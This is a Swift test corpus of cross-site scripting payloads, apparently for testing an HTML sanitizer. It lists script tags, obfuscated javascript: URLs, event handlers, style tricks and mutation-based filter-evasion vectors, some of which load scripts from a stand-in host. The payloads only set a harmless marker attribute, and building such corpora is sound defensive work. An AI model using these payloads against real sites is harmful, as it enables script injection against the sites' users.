/// Hostile raw HTML written from the vector families of the OWASP XSS filter-evasion cheat sheet: script
/// tags in odd spellings, `javascript:` URLs hidden by case, character references, tabs, newlines and
/// control characters, event handlers with odd separators, malformed and half-open tags, style and
/// expression tricks, embedding elements, comments and mutation tricks.
///
/// Every payload would mark the page if it ran: it sets `data-pwned` on the body or the page's title.
enum XSSCorpus {
    static let mark = "document.body.setAttribute('data-pwned','1')"
    static let jsURL = "javascript:document.body.setAttribute('data-pwned','1')"

    /// `text` written as decimal references (`&#106;&#97;…`), optionally zero-padded and without `;`.
    static func decimal(_ text: String, padded: Bool = false, semicolons: Bool = true) -> String {
        text.unicodeScalars.map { scalar -> String in
            let digits =
                padded
                ? String(repeating: "0", count: 7 - String(scalar.value).count) + "\(scalar.value)"
                : "\(scalar.value)"
            return "&#" + digits + (semicolons ? ";" : "")
        }.joined()
    }

    /// `text` written as hexadecimal references without `;` (`&#x6A&#x61…`).
    static func hex(_ text: String) -> String {
        text.unicodeScalars.map { "&#x" + String($0.value, radix: 16, uppercase: true) }.joined()
    }

    static let vectors: [String] = [
        // Script elements.
        "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
        "<script>\(mark)</script>",
        "<SCRIPT/XSS SRC=\"https://xss.example/xss.js\"></SCRIPT>",
        "<<SCRIPT>\(mark);//<</SCRIPT>",
        "<SCRIPT SRC=https://xss.example/xss.js?< B >",
        "<SCRIPT SRC=//xss.example/.j>",
        "</TITLE><SCRIPT>\(mark);</SCRIPT>",
        "<scr<script>ipt>\(mark)</scr</script>ipt>",
        // javascript: in image and link URLs.
        "<IMG SRC=\"\(jsURL);\">",
        "<IMG SRC=\(jsURL)>",
        "<IMG SRC=JaVaScRiPt:document.body.setAttribute('data-pwned','1')>",
        "<IMG SRC=`\(jsURL)`>",
        "<IMG SRC=\(decimal(jsURL))>",
        "<IMG SRC=\(decimal(jsURL, padded: true, semicolons: false))>",
        "<IMG SRC=\(hex(jsURL))>",
        "<IMG SRC=\"jav\tascript:\(mark);\">",
        "<IMG SRC=\"jav&#x09;ascript:\(mark);\">",
        "<IMG SRC=\"jav&#x0A;ascript:\(mark);\">",
        "<IMG SRC=\"jav&#x0D;ascript:\(mark);\">",
        "<IMG SRC=\" &#14;  \(jsURL);\">",
        "<a href=\"\(jsURL)\">link</a>",
        "<a href=\"  JaVa&#x09;Script&colon;\(mark)\">link</a>",
        "<a href=\"&#14;\(jsURL)\">link</a>",
        "<a href=\"jav&#x41;script:\(mark)\">link</a>",
        "<a href=\"vbscript:msgbox('XSS')\">link</a>",
        "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">link</a>",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
        // Event handlers.
        "<a onmouseover=\"\(mark)\">xxs link</a>",
        "<a onmouseover=\(mark)>xxs link</a>",
        "<IMG SRC=# onmouseover=\"\(mark)\">",
        "<IMG SRC= onmouseover=\"\(mark)\">",
        "<IMG onmouseover=\"\(mark)\">",
        "<IMG SRC=/ onerror=\"\(mark)\"></img>",
        "<img src=x onerror=\"\(decimal(mark, padded: true, semicolons: false))\">",
        "<img src=x:alert(alt) onerror=eval(src) alt=0>",
        "<img src=\"x\\\"onerror=\(mark)//\">",
        "<img/src=x/onerror=\(mark)>",
        "<BODY ONLOAD=\(mark)>",
        "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=\(mark)>",
        "<svg/onload=\(mark)>",
        "<svg><script>\(mark)</script></svg>",
        "<details open ontoggle=\(mark)><summary>s</summary></details>",
        "<a href=\"https://developer.apple.com/ok\" onclick=\"\(mark)\">ok</a>",
        "<div align=center onpointerenter=\(mark)>div</div>",
        "<p title=\"x\" onfocus=\(mark) tabindex=1 autofocus>p</p>",
        "<kbd onclick=\(mark)>k</kbd><sup onmouseover=\(mark)>s</sup>",
        "<INPUT TYPE=\"IMAGE\" SRC=\"\(jsURL);\">",
        "<input onfocus=\(mark) autofocus>",
        "<video><source onerror=\"\(mark)\"></video>",
        "<audio src=x onerror=\(mark)>",
        "<marquee onstart=\(mark)>m</marquee>",
        // Styles and expressions.
        "<STYLE>li {list-style-image: url(\"\(jsURL)\");}</STYLE><UL><LI>XSS</br>",
        "<DIV STYLE=\"background-image: url(\(jsURL))\">d</DIV>",
        "<DIV STYLE=\"width: expression(\(mark));\">d</DIV>",
        "<IMG STYLE=\"xss:expr/*XSS*/ession(\(mark))\">",
        "<LINK REL=\"stylesheet\" HREF=\"\(jsURL);\">",
        "<style>@import 'https://xss.example/x.css';</style>",
        "<BR SIZE=\"&{\(mark)}\">",
        // Embedding, framing, base, meta refresh, forms.
        "<IFRAME SRC=\"\(jsURL);\"></IFRAME>",
        "<iframe src=https://xss.example/scriptlet.html <",
        "<iframe srcdoc=\"<script>parent.\(mark)</script>\"></iframe>",
        "<FRAMESET><FRAME SRC=\"\(jsURL);\"></FRAMESET>",
        "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://xss.example/scriptlet.html\"></OBJECT>",
        "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\" type=\"image/svg+xml\">",
        "<BASE HREF=\"\(jsURL);//\">",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=\(jsURL);\">",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg\">",
        "<form action=\"\(jsURL)\"><button>go</button></form>",
        "<button formaction=\"\(jsURL)\">go</button>",
        "<TABLE BACKGROUND=\"\(jsURL)\"><tr><td>t</td></tr></TABLE>",
        // Comments, conditional comments, mutation tricks.
        "<!--<img src=x onerror=\(mark)>-->",
        "<!--[if gte IE 4]><SCRIPT>\(mark);</SCRIPT><![endif]-->",
        "<!--> <img src=x onerror=\(mark)> -->",
        "<noscript><p title=\"</noscript><img src=x onerror=\(mark)>\">",
        "<math><mtext><table><mglyph><style><img src=x onerror=\(mark)>",
        "<template><img src=x onerror=\(mark)></template>",
        "<textarea></textarea><img src=x onerror=\(mark)></textarea>",
        "<xmp><img src=x onerror=\(mark)></xmp>",
        "<a href=\"https://developer.apple.com/ok\" title=\"\\\" onmouseover=\(mark) x=\\\"\">t</a>",
    ]
}
